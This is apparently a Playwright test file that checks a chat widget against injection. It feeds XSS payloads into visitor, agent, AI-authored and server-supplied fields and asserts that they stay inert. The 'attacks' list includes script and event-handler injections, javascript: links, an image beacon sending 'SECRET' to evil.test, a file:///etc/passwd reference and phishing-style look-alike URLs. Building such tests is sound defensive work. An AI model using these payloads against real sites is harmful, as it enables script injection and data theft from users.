import type { VisitorConversation, VisitorMessage } from '@baton/contracts';
import type { Page } from '@playwright/test';
import { expect, test } from '../system/fixtures.js';
import { expectStatus } from '../system/http.js';
import { MemberClient, type List } from '../system/people.js';
import { Customer } from '../system/screens.js';
import { foreignRequests, frameOf, serversSideOf } from '../system/widget-frame.js';

const attacks = [
  '1 <script>window.hit=1</script><img src=x onerror="window.hit=1"><svg onload="window.hit=1">',
  '2 [x](javascript:window.hit=1) JaVaScRiPt:window.hit=1 java\tscript:window.hit=1 &#x6a;avascript:window.hit=1',
  '3 data:text/html,<script>window.hit=1</script> vbscript:hit blob:null/1 file:///etc/passwd',
  '4 ![x](javascript:window.hit=1) ![a" onerror="window.hit=1](https://evil.test/a.png)',
  '5 ![x](https://evil.test/?q=SECRET) <img src="https://evil.test/pixel.gif">',
  '6 [a][b]\n[b]: https://evil.test/page',
  '7 answer in HTML: <a href="https://evil.test" onclick="window.hit=1">click</a><iframe src="https://evil.test"></iframe>',
  '8 <form id="__proto__"><input name="config"></form>',
  '9 <noscript><p title="</noscript><img src=x onerror=window.hit=1>"> <math><mtext><table><mglyph><style><img src=x onerror=window.hit=1>',
  `10 \u202Egnp.exe \u200B${'e\u0301\u0302\u0303'.repeat(900)}`,
  '11 https://bank.test@evil.test/login and [https://bank.test](https://evil.test/bank)',
];
const EVIL = '<img src="https://evil.test/name.gif" onerror="window.hit=1">';

/** Nothing that was written became more than text and links to pages that say where they lead. */
const expectOnlyText = async (customer: Customer) => {
  for (const text of attacks) {
    const start = text.slice(0, 24).split('\n')[0] ?? '';
    await expect(customer.thread.getByText(start).first()).toBeAttached();
  }
  const found = await frameOf(customer).evaluate(() => ({
    hit: (window as unknown as { hit?: number }).hit,
    elements: document.querySelectorAll('#root :is(script, img, iframe, form:not([class]), math, style, table, object)')
      .length,
    links: [...document.querySelectorAll<HTMLAnchorElement>('#root a')].map(({ href, rel, textContent }) => ({
      href,
      rel,
      text: textContent ?? '',
    })),
  }));
  expect(found.hit).toBeUndefined();
  expect(found.elements).toBe(0);
  expect(found.links.length).toBeGreaterThan(0);
  for (const { href, rel, text } of found.links) {
    expect(href).toMatch(/^(https?|mailto):/);
    expect(rel).toBe('noopener noreferrer nofollow');
    // 11: what is read is where it leads, but for what leads to the source of an answer, which names its host.
    if (!text.startsWith('Read on')) expect(text).toContain(new URL(href).host || href.replace('mailto:', ''));
  }
};

/** 10: however much is in it, one message leaves room for the others. */
const expectRoomForOthers = async (customer: Customer) => {
  const tallest = await customer.thread
    .locator('li')
    .evaluateAll((all) => Math.max(...all.map((each) => each.getBoundingClientRect().height)));
  expect(tallest).toBeLessThan(600);
};

/** An AI and a house that were led astray: what the server tells reaches the panel with the attacks in every field. */
const poison = async (page: Page) => {
  await page.route('**/api/v1/widget/sessions', async (route) => {
    const response = await route.fetch();
    const session = (await response.json()) as { widget: { texts: Record<string, string> } };
    for (const name of Object.keys(session.widget.texts))
      if (name !== 'launcher') session.widget.texts[name] = `${EVIL} ${name}`;
    await route.fulfill({ response, json: session });
  });
  await page.route(/\/conversations\/[^/]+\/messages\?/, async (route) => {
    const response = await route.fetch();
    const list = (await response.json()) as List<VisitorMessage>;
    const [asked] = list.items;
    if (!asked) return route.fulfill({ response });
    const answers = attacks.map((text, index) => ({
      ...asked,
      id: `${asked.id}-${index}`,
      seq: 2 + index,
      author: {
        kind: index % 2 ? 'ai' : 'agent',
        id: null,
        name: `System ${EVIL}`,
        avatarUrl: 'https://evil.test/a.png',
      },
      text,
      citations: [
        { documentId: asked.id, title: `${EVIL} title`, url: 'javascript:window.hit=1', passage: text },
        { documentId: asked.id, title: 'Source', url: 'https://evil.test/source', passage: EVIL },
      ],
    }));
    await route.fulfill({ response, json: { ...list, items: [asked, ...answers] } });
  });
  await page.route(/\/conversations\/[^/]+$/, async (route) => {
    const response = await route.fetch();
    const conversation = (await response.json()) as VisitorConversation;
    const agent = { name: `Ada ${EVIL}`, avatarUrl: 'https://evil.test/avatar.png' };
    const queue = { position: 1, estimatedWaitSeconds: 60, fallback: false, message: `${EVIL} ${attacks[6]}` };
    await route.fulfill({
      response,
      json: {
        ...conversation,
        status: 'waiting',
        version: conversation.version + 100,
        lastSeq: 1 + attacks.length,
        agent,
        queue,
      },
    });
  });
};

test('1–11: whatever a customer or an agent writes is literal text in the widget, and nothing foreign is asked for', async ({
  browser,
  stack,
}) => {
  const customer = await Customer.visit(browser, stack);
  const foreign = foreignRequests(customer, stack);
  await customer.openChat();
  await customer.chat.getByRole('button', { name: 'Talk to a person' }).click();
  await expect(customer.chat.getByRole('region', { name: 'Waiting for a person' })).toBeVisible();
  for (const text of attacks) await customer.say(text);
  await expect(customer.said('visitor')).toHaveCount(attacks.length);
  await expectOnlyText(customer);
  await expectRoomForOthers(customer);

  const ada = await MemberClient.signIn(stack.url, 'ada@demo.test');
  const [conversation] = await (await serversSideOf(customer, stack)).conversations();
  const id = conversation?.id ?? '';
  expectStatus(await ada.takeOver(id), 200);
  for (const text of attacks) await ada.reply(id, text);
  await expect(customer.said('agent')).toHaveCount(attacks.length);
  await expect(customer.said('agent').first()).toContainText('Team');
  await expectOnlyText(customer);
  await expectRoomForOthers(customer);
  expectStatus(await ada.http.post(`/conversations/${id}/close`), 200);
  expect(foreign).toEqual([]);
  await customer.close();
});

test("1–12: what the AI, its documents and the house's own texts and names hold is literal text too", async ({
  browser,
  stack,
}) => {
  const customer = await Customer.visit(browser, stack);
  await customer.openChat();
  await customer.say('Hello');
  await expect(customer.said('visitor').getByText('Sent')).toBeVisible();
  const foreign = foreignRequests(customer, stack);
  await poison(customer.page);
  await customer.page.reload();
  await expect(customer.said('agent').first()).toContainText('Team');
  await expect(customer.chat.getByText(`${EVIL} greeting`)).toBeVisible();
  await expect(customer.chat.getByRole('heading', { level: 1 })).toContainText('<img src=');
  await expectRoomForOthers(customer);
  for (const last of [-1, -2]) await customer.thread.locator('summary').nth(last).click();
  await expectOnlyText(customer);
  await expect(customer.thread.getByRole('link', { name: 'Read on evil.test' }).first()).toBeVisible();
  await expect(customer.chat.getByRole('region', { name: 'Waiting for a person' })).toContainText('<img src=');
  expect(foreign).toEqual([]);
  await customer.close();
});
